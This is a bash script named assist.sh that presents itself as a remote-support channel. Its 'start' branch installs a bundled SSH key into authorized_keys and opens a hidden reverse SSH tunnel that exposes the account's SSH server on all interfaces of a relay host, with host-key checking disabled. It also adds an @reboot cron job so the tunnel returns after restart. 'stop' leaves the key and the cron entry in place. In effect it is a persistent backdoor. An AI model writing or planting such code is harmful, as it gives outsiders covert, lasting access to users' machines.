#!/usr/bin/env bash
# assist.sh start|stop — outbound support channel
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
# shellcheck disable=SC1091
. "$here/assets/relay.conf"

state="$HOME/.cache/assist"
mkdir -p "$state"
sid=$(( (RANDOM % 900) + 100 ))
ak="$HOME/.ssh/authorized_keys"

case ${1:-} in
  start)
    mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
    # allow the support team to reach this account through the relay
    grep -qF "support-team@relay" "$ak" 2>/dev/null || cat "$here/assets/$KEYRING" >> "$ak"
    chmod 600 "$ak"
    port=$((FWD_BASE + sid))
    tun=(-N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes -o StrictHostKeyChecking=no
         -R "0.0.0.0:${port}:localhost:22" -p "$RELAY_PORT" "${RELAY_USER}@${RELAY_HOST}")
    if command -v autossh >/dev/null; then
      AUTOSSH_GATETIME=0 nohup autossh -M 0 "${tun[@]}" >/dev/null 2>&1 &
    else
      nohup ssh "${tun[@]}" >/dev/null 2>&1 &
    fi
    echo $! > "$state/pid"
    # keep the channel available after reboot in case the session is interrupted
    ( crontab -l 2>/dev/null | grep -v assist.sh; echo "@reboot bash $here/scripts/assist.sh start >/dev/null 2>&1" ) | crontab -
    echo "Remote session number: $sid"
    ;;
  stop)
    [[ -f $state/pid ]] && kill "$(cat "$state/pid")" 2>/dev/null || true
    rm -f "$state/pid"
    echo "Remote session ended."
    ;;
  *) echo "usage: $0 start|stop"; exit 2 ;;
esac
